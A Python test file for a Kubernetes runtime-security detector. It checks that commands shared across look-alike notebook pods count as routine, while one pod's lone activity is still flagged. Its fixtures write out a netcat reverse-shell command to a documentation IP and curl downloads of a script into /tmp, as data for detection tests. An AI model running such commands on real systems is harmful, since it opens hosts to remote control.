"""Look-alike single pods (``findings._peers``): bare pods of one template (a notebook server
per user) are one workload for the replicas rule and the per-workload detections' routine."""

from __future__ import annotations

import polars as pl

from kernelsec_nb.findings._peers import PEER, peer_groups, with_peers
from kernelsec_nb.findings.engine import find_in
from kernelsec_nb.findings.routine import replicas
from tests.findings.test_engine import MS, P, S, _hits, flow, frames, proc

LABELS = pl.List(pl.Struct({"key": pl.String, "value": pl.String}))


def _pods(rows):
    """(pod, workload, image, container, {labels}) -> one process row each."""
    return pl.DataFrame(
        [{"exec_id": f"m-{pod}", "namespace": ns, "pod": pod, "workload": wl, "image": img, "container_name": c,
          "pod_labels": [{"key": k, "value": v} for k, v in labels.items()]}
         for ns, pod, wl, img, c, labels in rows],
        schema={"exec_id": pl.String, "namespace": pl.String, "pod": pl.String, "workload": pl.String,
                "image": pl.String, "container_name": pl.String, "pod_labels": LABELS})


def test_peer_groups_same_image_container_and_label_keys_each_a_workload_of_one():
    user = [("hub", f"nb-{u}", f"nb-{u}", "lab:1", "notebook", {"app": "hub", "user": u}) for u in ("ann", "bob", "cy")]
    other = [("hub", "nb-dee", "nb-dee", "lab:2", "notebook", {"app": "hub", "user": "dee"}),       # another image
             ("hub", "nb-eve", "nb-eve", "lab:1", "notebook", {"app": "hub", "user": "eve", "x": "1"}),  # other keys
             ("web", "nb-fay", "nb-fay", "lab:1", "notebook", {"app": "hub", "user": "fay"}),        # other namespace
             ("hub", "api-7d-a", "api", "lab:1", "notebook", {"app": "hub", "user": "api"}),         # a workload of two
             ("hub", "api-7d-b", "api", "lab:1", "notebook", {"app": "hub", "user": "api"})]
    g = peer_groups(_pods(user + other))
    assert sorted(g["pod"].to_list()) == ["nb-ann", "nb-bob", "nb-cy"]
    assert g["peer"].n_unique() == 1 and g["peer"][0].startswith(PEER)
    # two look-alike pods are no group
    assert peer_groups(_pods(user[:2])).height == 0
    assert with_peers(_pods(user + other), g).filter(pl.col("peer").is_not_null())["pod"].sort().to_list() == \
        ["nb-ann", "nb-bob", "nb-cy"]


def test_replicas_counts_a_command_across_look_alike_pods_from_three_and_half_of_them():
    pods = [f"nb-{u}" for u in ("ann", "bob", "cy", "dee", "eve")]
    rows = [{"exec_id": f"i-{p}", "parent_exec_id": None, "namespace": "hub", "pod": p, "workload": p,
             "binary": "/usr/bin/curl", "args": "-o /tmp/i.sh https://x", "start_ns": n * S}
            for n, p in enumerate(pods[:3])]
    rows.append({"exec_id": "odd", "parent_exec_id": None, "namespace": "hub", "pod": pods[3], "workload": pods[3],
                 "binary": "/usr/bin/nc", "args": "-e /bin/sh 203.0.113.5 4444", "start_ns": 9 * S})
    rows += [{"exec_id": f"z-{p}", "parent_exec_id": None, "namespace": "hub", "pod": p, "workload": p,
              "binary": "/bin/true", "args": "", "start_ns": 0} for p in pods[3:]]
    procs = pl.DataFrame(rows, schema_overrides={"parent_exec_id": pl.String})
    # each pod a workload of its own: no replicas
    assert replicas(procs).height == 0
    peered = procs.with_columns(pl.lit(PEER + "hub lab:1").alias("peer"))
    got = replicas(peered)
    assert sorted(got["exec_id"].to_list()) == ["i-nb-ann", "i-nb-bob", "i-nb-cy"]
    assert got["reason"].unique().to_list() == ["runs in 3 of 5 look-alike pods"]
    # two of five look-alike pods: no habit of the template
    assert replicas(peered.filter(pl.col("exec_id") != "i-nb-cy")).height == 0


def _notebooks(intruder: bool):
    """Four look-alike notebook pods: the server (running before the capture) starts a login shell
    that downloads from the same host (a rule marks the shell); with ``intruder`` a fifth pod's
    shell also runs a reverse shell a rule marks."""
    users = ["ann", "bob", "cy", "dee"] + (["eve"] if intruder else [])
    procs, flows, hits = [], [], []
    for n, u in enumerate(users):
        pod, t = f"nb-{u}", (100 + 900 * n) * S
        procs += [proc(f"srv-{u}", None, pod, "/usr/bin/python3", "/usr/bin/server --port 8888", -100 * S,
                       ns="hub", seen="event", workload=pod),
                  proc(f"sh-{u}", f"srv-{u}", pod, "/bin/bash", "-l", t, ns="hub", workload=pod),
                  proc(f"dl-{u}", f"sh-{u}", pod, "/usr/bin/curl", "-o /tmp/i.sh https://get.example/i.sh",
                       t + S, ns="hub", workload=pod)]
        flows.append(flow(f"f-{u}", t + S + MS, f"dl-{u}", ("hub", pod), None, 443, dst_ip="198.51.100.7"))
        hits.append({"rule_id": "svc-shell", "title": "Shell started by a service process", "level": "high",
                     "techniques": ["T1059.004"], "exec_id": f"sh-{u}", "event_id": f"h-{u}", "time_ns": t,
                     "workload": pod, "namespace": "hub", "pod": pod})
    if intruder:
        procs.append(proc("nc", "sh-eve", "nb-eve", "/usr/bin/nc", "-e /bin/sh 203.0.113.5 4444", 3700 * S,
                          ns="hub", workload="nb-eve"))
        flows.append(flow("f-nc", 3700 * S + MS, "nc", ("hub", "nb-eve"), None, 4444, dst_ip="203.0.113.5"))
        hits.append({"rule_id": "revshell", "title": "Reverse shell", "level": "high", "techniques": ["T1059"],
                     "exec_id": "nc", "event_id": "h-nc", "time_ns": 3700 * S, "workload": "nb-eve",
                     "namespace": "hub", "pod": "nb-eve"})
    f = frames(procs, flows, hits=_hits(hits))
    f["procs"] = f["procs"].with_columns(pl.lit("lab:1").alias("image"), pl.lit("notebook").alias("container_name"))
    assert set(P) <= set(f["procs"].columns)
    return f


def test_engine_a_shell_and_download_every_look_alike_pod_runs_is_no_incident():
    assert find_in(**_notebooks(intruder=False)).incidents == []


def test_engine_what_one_look_alike_pod_alone_does_is_still_found():
    f = find_in(**_notebooks(intruder=True))
    assert [i.pod for i in f.incidents] == ["nb-eve"]
